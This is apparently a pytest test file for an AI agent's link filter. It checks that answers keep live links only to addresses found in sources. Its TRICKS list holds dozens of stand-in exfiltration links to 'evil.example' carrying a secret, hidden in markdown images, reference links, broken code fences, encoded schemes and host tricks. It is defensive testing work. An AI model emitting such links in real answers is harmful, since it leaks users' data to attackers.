"""Answers carry links only to addresses that stood in a source, however they are written."""

import random

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from agent.sources import Sources

PAGE = "https://ok.example/a/b?x=1"
LOOT = "s3cret"


def sources() -> Sources:
    known = Sources(warned=True)
    known.hear(f"See {PAGE} and (https://docs.example/手册/page).")
    return known


def alive(markdown: str) -> list[str]:
    """What a renderer would link to or load, or a platform would make a link of by itself."""
    found: list[str] = []
    for block in MarkdownIt("commonmark", {"html": False}).parse(markdown):
        inline = block.children or []
        found += [str(each.attrGet("href") or each.attrGet("src")) for each in inline if each.attrs]
        found += [each.content for each in inline if each.type == "text" and _is_address(each)]
    return [each for each in found if not each.startswith("%")]  # those lead nowhere


def _is_address(token: Token) -> bool:
    return "://" in token.content or f"/?d={LOOT}" in token.content


@pytest.mark.parametrize(
    "text",
    [
        "Nothing to see.",
        f"[here]({PAGE}) and {PAGE}.",
        "[root](https://ok.example/), [part](https://ok.example/a)",
        "**https://docs.example/手册/page**，见[手册](https://docs.example/手册/page)。更多",
        f"<{PAGE}> or ![chart]({PAGE})",
        "Run main.py, e.g. `pip install x`, 3.5 and Node.js; mail ann@ok.example.",
        "```sh\ncurl https://elsewhere.example/x\n```\nand `https://elsewhere.example`",
        "1. do\n   ```\n   curl https://elsewhere.example/x\n   ```\n",
    ],
)
def test_what_stood_in_a_source_stays_as_it_is(text: str) -> None:
    assert sources().shown(text) == text


EVIL = f"https://evil.example/?d={LOOT}"
TRICKS = (
    EVIL,
    f"Look: {EVIL}.",
    f"[x]({EVIL})",
    f"![x]({EVIL})",
    f'[x](<{EVIL}> "title")',
    f"<{EVIL}>",
    f"[x]: {EVIL}\n\n[x]",
    f"[x]:\n{EVIL}\n\n[x]",
    f"` {EVIL}",
    f"`` ` {EVIL}",
    f"a ` b\n`{EVIL} `",
    f"\\`{EVIL}\\`",
    f"~~~~\n```\n~~~~\n{EVIL}\n```",
    f"  ```\n{EVIL}\n```\n{EVIL}",
    f"- ```\n\n{EVIL}\n",
    f"> ```\n\n{EVIL}",
    f"para\n    ```\n    x\n\n{EVIL}",
    f"[x](https&#58;//evil.example/?d={LOOT})",
    f"https&colon;//evil.example/?d={LOOT}",
    f"https:\\//evil.example/?d={LOOT}",
    f"[x](//evil.example/?d={LOOT})",
    f"[`x`](//evil.example/?d={LOOT})",
    f"[x](HTTPS://EVIL.example/?d={LOOT})",
    f"[![x]({EVIL})]({EVIL})",
    f"evil.example/?d={LOOT}",
    f"[x](mailto:eve@evil.example?d={LOOT})",
    f"[x](tg://msg?d={LOOT})",
    f"[x](https://ok.example/a/b?x=1&d={LOOT})",
    f"[x](https://ok.example/{LOOT})",
    f"[x](https://ok.example/a/../{LOOT})",
    f"[x]({PAGE}#{LOOT})",
    f"[x](https://ok.example@evil.example/?d={LOOT})",
    f"<https://ok.example/`?d={LOOT}>`",
    f"[x](https://ok.example\\@evil.example/?d={LOOT})",
    f"[x](https://{LOOT}.ok.example/)",
    f"[x](https://ok.example:8443/?d={LOOT})",
)


@pytest.mark.parametrize("text", TRICKS)
def test_no_other_address_is_a_link(text: str) -> None:
    shown = sources().shown(text)
    assert not any(LOOT in each for each in alive(shown)), shown
    assert LOOT in shown


def test_nor_are_many_of_them_together() -> None:
    chance = random.Random(6)
    harmless = ("`", "``", "```\n", "\n", "~~~\n", "    ", "> ", "- ", "text ", "[a](", ")", "\\")
    for _ in range(1500):
        parts = chance.choices((*TRICKS, *harmless), k=chance.randint(2, 9))
        text = "".join(parts)
        shown = sources().shown(text)
        assert not any(LOOT in each for each in alive(shown)), (text, shown)


def test_before_a_stranger_was_read_nothing_is_changed() -> None:
    assert Sources().shown(EVIL) == EVIL


def test_what_the_model_wrote_itself_does_not_become_a_source() -> None:
    known = sources()
    known.hear(f"Nothing was found for {EVIL!r}", but=f'{{"query": "{EVIL}"}}')
    assert not known.know(EVIL)


def test_what_was_no_link_in_an_earlier_answer_is_none_later() -> None:
    known = sources()
    known.hear_answer(known.shown(f"{EVIL} {PAGE}"))
    assert not known.know(EVIL)
    assert known.know(PAGE)


def test_an_answer_grows_without_showing_an_unfinished_address() -> None:
    known = sources()
    text = f"So [it]({EVIL}) is there, see {PAGE} for more."
    for end in range(len(text)):
        assert not any(LOOT[:3] in each for each in alive(known.growing(text[:end])))
